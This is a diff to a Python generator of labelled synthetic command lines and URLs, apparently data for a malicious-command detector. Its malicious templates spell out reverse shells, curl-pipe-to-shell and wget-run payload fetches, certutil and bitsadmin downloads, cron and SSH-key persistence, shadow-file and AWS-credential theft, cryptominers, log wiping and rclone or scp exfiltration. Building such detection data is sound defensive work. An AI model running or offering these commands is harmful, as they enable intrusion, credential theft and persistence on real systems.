@@ -246,6 +246,8 @@ WORDS: dict[str, tuple[str, ...]] = {
                        "https://{bad_domain}/{sh_name}"),
     "payload_url_bin": ("http://{ip_public}/{bin_name}", "http://{ip_public}:{web_port}/bins/{bin_name}"),
     "sh_name": ("bins.sh", "x.sh", "i.sh", "1.sh", "install.sh", "setup.sh", "ldr.sh", "{rand}.sh"),
+    "tmp_name": ("{rand}",),
+    "job": ("{rand}", "update", "WindowsUpdate{n3}", "sync"),
     "bin_name": ("x86", "mips", "arm7", "kinsing", "kdevtmpfsi", ".x", "{rand}"),
     "win_drop_dir": (r"C:\Users\{user}\AppData\Local\Temp", r"C:\ProgramData", r"C:\Users\Public", "%TEMP%",
                      r"%APPDATA%\Microsoft", r"C:\Windows\Temp", r"C:\Users\{user}\AppData\Roaming\{rand}"),
@@ -267,20 +269,28 @@ WORDS: dict[str, tuple[str, ...]] = {
                   "$c=New-Object Net.Sockets.TCPClient('{ip_public}',{port});$s=$c.GetStream()",
                   "Start-Process -WindowStyle Hidden -FilePath '{win_drop_exe}'"),
     "sh_payload": ("bash -i >& /dev/tcp/{ip_public}/{port} 0>&1", "curl -fsSL {payload_url_sh} | sh",
-                   "wget -q -O /tmp/.{rand} {payload_url_bin} && chmod +x /tmp/.{rand} && /tmp/.{rand}",
+                   "wget -q -O /tmp/.{tmp_name} {payload_url_bin} && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}",
                    "nohup /tmp/{bin_name} >/dev/null 2>&1 &"),
 }
 
 _SLOT = re.compile(r"(?<!\$)\{([a-z][a-z0-9_]*)\}")
+# A dropped file, a tool or an account named twice in one command line is the same one each time.
+STICKY = frozenset({"tmp_name", "bin_name", "win_drop_exe", "win_drop_dll", "mal_user", "job", "tool"})
 
 
-def _fill(template: str, rng: random.Random) -> str:
-    """Replaces every {name} with a random word of that name (or a generated value), recursively."""
+def _fill(template: str, rng: random.Random, memo: dict[str, str] | None = None) -> str:
+    """Replaces every {name} with a random word of that name (or a generated value), recursively; `memo`
+    keeps the sticky parts of one artifact."""
+    memo = {} if memo is None else memo
+
     def part(match: re.Match) -> str:
         name = match.group(1)
-        if name in WORDS:
-            return _fill(rng.choice(WORDS[name]), rng)
-        return GENERATED[name](rng)
+        if name in memo:
+            return memo[name]
+        value = _fill(rng.choice(WORDS[name]), rng, memo) if name in WORDS else GENERATED[name](rng)
+        if name in STICKY:
+            memo[name] = value
+        return value
     return _SLOT.sub(part, template)
 
 
@@ -337,7 +347,7 @@ BENIGN_CMDLINES = (
             "curl -X POST -H 'Content-Type: application/json' -d @payload.json http://{host}:{svc_port}/api/v1/jobs",
             "curl -fsSL https://sh.rustup.rs | sh", "curl -sSL https://install.python-poetry.org | python3 -",
             "curl -Lo /tmp/{tool}.tar.gz https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-linux-amd64.tar.gz"),
-    _family("wget", "linux", "wget https://releases.{vendor}.com/{tool}/{ver}/{tool}_{ver}_linux_amd64.zip",
+    _family("wget", "linux", "wget https://releases.{vendor}.com/{tool}/{ver}/{tool}_linux_amd64.zip",
             "wget -qO- https://packages.{vendor}.com/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{vendor}.gpg",
             "wget -c https://{corp_site}/files/{fname}.tar.gz"),
     _family("ps", "linux", "ps aux | grep {svc}", "ps -ef --forest", "df -h", "du -sh /var/lib/docker/*", "free -m",
@@ -418,8 +428,8 @@ MALICIOUS_CMDLINES = (
             r"certutil -decode {win_drop_dir}\{rand}.txt {win_drop_exe}"),
     _family("bitsadmin-download", "windows",
             "bitsadmin /transfer {rand} /download /priority high {payload_url_exe} {win_drop_exe}",
-            "bitsadmin /create {rand} & bitsadmin /addfile {rand} {payload_url_exe} {win_drop_exe} & "
-            "bitsadmin /resume {rand}"),
+            "bitsadmin /create {job} & bitsadmin /addfile {job} {payload_url_exe} {win_drop_exe} & "
+            "bitsadmin /resume {job}"),
     _family("rundll32-proxy", "windows", "rundll32.exe {win_drop_dll},{dll_export}",
             'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
             'GetObject("script:{payload_url_sct}")', "rundll32 {win_drop_dll},DllRegisterServer"),
@@ -491,20 +501,20 @@ MALICIOUS_CMDLINES = (
     _family("base64-shell", "linux", "echo {b64_sh} | base64 -d | bash", "echo '{b64_sh}' | base64 --decode | sh",
             'bash -c "$(echo {b64_sh} | base64 -d)"',
             "python3 -c \"import base64,os;os.system(base64.b64decode('{b64_sh}'))\"",
-            "echo {b64_sh} | base64 -d > /tmp/.{rand}; sh /tmp/.{rand}"),
+            "echo {b64_sh} | base64 -d > /tmp/.{tmp_name}; sh /tmp/.{tmp_name}"),
     _family("cron-persistence", "linux",
             '(crontab -l 2>/dev/null; echo "*/{n} * * * * curl -fsSL {payload_url_sh} | sh") | crontab -',
             "echo '@reboot /tmp/.{rand}' >> /var/spool/cron/crontabs/root",
             "echo \"* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'\" > /etc/cron.d/{rand}"),
     _family("ssh-key-persistence", "linux", "echo '{ssh_key}' >> /root/.ssh/authorized_keys",
             "mkdir -p ~/.ssh && echo '{ssh_key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
-            "curl -fsSL {payload_url_sh} -o /tmp/.{rand} && cat /tmp/.{rand} >> /root/.ssh/authorized_keys"),
+            "curl -fsSL {payload_url_sh} -o /tmp/.{tmp_name} && cat /tmp/.{tmp_name} >> /root/.ssh/authorized_keys"),
     _family("linux-credential-access", "linux", "cat /etc/shadow", "unshadow /etc/passwd /etc/shadow > /tmp/{rand}.txt",
             "grep -r 'password' /home/*/.bash_history", "find / -name id_rsa 2>/dev/null",
             "cat ~/.aws/credentials | curl -X POST -d @- http://{ip_public}:{web_port}/"),
     _family("cryptominer", "linux", "./xmrig -o {pool}:{pool_port} -u {wallet} -p x -k --donate-level 1",
-            "nohup /tmp/.{rand}/kworker -c /tmp/.{rand}/config.json >/dev/null 2>&1 &",
-            "chmod +x /tmp/.{rand} && /tmp/.{rand} -o stratum+tcp://{pool}:{pool_port} -u {wallet}"),
+            "nohup /tmp/.{tmp_name}/kworker -c /tmp/.{tmp_name}/config.json >/dev/null 2>&1 &",
+            "chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name} -o stratum+tcp://{pool}:{pool_port} -u {wallet}"),
     _family("log-tampering", "linux", "history -c && rm -f ~/.bash_history", "unset HISTFILE; export HISTSIZE=0",
             "echo > /var/log/auth.log", "setenforce 0; systemctl stop firewalld",
             "unset HISTFILE; curl -fsSL {payload_url_sh} | sh", "shred -u /var/log/auth.log /tmp/.{rand}"),
@@ -513,7 +523,7 @@ MALICIOUS_CMDLINES = (
             "rclone copy /srv/{repo} mega:{rand} --transfers 16", "scp -r /var/www {mal_user}@{ip_public}:/tmp/"),
     _family("macos-persistence", "macos", "osascript -e 'do shell script \"curl -s {payload_url_sh} | sh\"'",
             "launchctl load -w ~/Library/LaunchAgents/com.{rand}.agent.plist",
-            "curl -so /tmp/.{rand} {payload_url_bin} && xattr -d com.apple.quarantine /tmp/.{rand}"),
+            "curl -so /tmp/.{tmp_name} {payload_url_bin} && xattr -d com.apple.quarantine /tmp/.{tmp_name}"),
 )
 
 SENSORS = {"windows": ("sysmon", "edr"), "linux": ("auditd", "edr"), "macos": ("edr",)}
@@ -532,7 +542,7 @@ LAUNCHERS = {
                           ("", " > /tmp/{fname}.out 2>&1"), ("cd {lin_dir} && ", ""), ("", " && echo done")),
     ("malicious", "linux"): (("nohup sh -c '", "' >/dev/null 2>&1 &"), ("sudo ", ""), ("", "; rm -f /tmp/.{rand}"),
                              ("cd /tmp && ", ""), ("", " 2>/dev/null &"), ('sh -c "', '"'),
-                             ("", " && chmod +x /tmp/.{rand} && /tmp/.{rand}"),
+                             ("", " && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}"),
                              ("", "; curl -fsSL {payload_url_sh} | sh"),
                              ("cd /dev/shm; ", "")),
 }
@@ -541,11 +551,12 @@ LAUNCHED_SHARE = {"benign": 0.3, "malicious": 0.6}
 
 def _cmdline_row(rng: random.Random, label: str) -> dict[str, str]:
     family = _weighted(rng, BENIGN_CMDLINES if label == "benign" else MALICIOUS_CMDLINES)
-    text = _fill(rng.choice(family.templates), rng)
+    memo: dict[str, str] = {}
+    text = _fill(rng.choice(family.templates), rng, memo)
     group = _binary(text)
     if rng.random() < LAUNCHED_SHARE[label]:
         prefix, suffix = rng.choice(LAUNCHERS[label, "windows" if family.platform == "windows" else "linux"])
-        text = _fill(prefix, rng) + text + _fill(suffix, rng)
+        text = _fill(prefix, rng, memo) + text + _fill(suffix, rng, memo)
     return {"text": text, LABEL: label, GROUP: group, SOURCE: rng.choice(SENSORS[family.platform]),
             "platform": family.platform, "family": family.name}
 
@@ -634,7 +645,7 @@ WORDS.update({
 BENIGN_URLS = (
     "https://github.com/{org}/{repo}", "https://github.com/{org}/{repo}/blob/{branch}/{gh_path}",
     "https://github.com/{org}/{repo}/issues/{n4}", "https://github.com/{org}/{repo}/pull/{n4}",
-    "https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-{ver}-{os_arch}.{archive}",
+    "https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-{os_arch}.{archive}",
     "https://stackoverflow.com/questions/{n8}/{q_slug}", "https://en.wikipedia.org/wiki/{wiki_title}",
     "{docs_url}", "{docs_url}", "{docs_url}#{slug}",
     "https://www.{news_site}/{year}/{mm}/{dd}/{section}/{news_slug}.html", "https://{news_site}/{section}/{news_slug}-{n8}",
@@ -659,7 +670,7 @@ BENIGN_URLS = (
     # free hosting and shorteners used for ordinary things
     "https://{user}.github.io/{repo}/", "https://sites.google.com/view/{club}/home", "https://{repo}.netlify.app/docs/",
     "https://{repo}.pages.dev/", "https://raw.githubusercontent.com/{org}/{repo}/{branch}/install.sh",
-    "https://storage.googleapis.com/{org}-public/{tool}/{ver}/{tool}.tar.gz", "https://bit.ly/{short}",
+    "https://storage.googleapis.com/{org}-public/{tool}/{ver}/{tool}-{os_arch}.tar.gz", "https://bit.ly/{short}",
     "https://t.co/{short}", "https://cdn.jsdelivr.net/npm/{npm_pkg}@{ver}/dist/{npm_pkg}.min.js",
     "https://fonts.googleapis.com/css2?family={font}&display=swap",
 )
